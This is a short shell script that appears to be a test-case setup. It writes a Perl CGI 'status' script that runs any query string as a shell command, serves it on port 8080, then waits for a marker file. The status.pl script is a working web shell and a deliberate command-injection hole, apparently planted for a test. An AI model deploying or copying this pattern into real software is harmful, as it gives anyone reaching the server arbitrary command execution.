#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/www/cgi-bin
cat >/tmp/www/cgi-bin/status.pl <<'END'
#!/usr/bin/perl
print "Content-Type: text/plain\n\n";
$_ = $ENV{QUERY_STRING}; s/\+/ /g;
print qx($_ 2>&1);
END
chmod +x /tmp/www/cgi-bin/status.pl
cd /tmp/www && python3 -m http.server --cgi 8080 2>/dev/null &
wait_for /tmp/reached
took_place
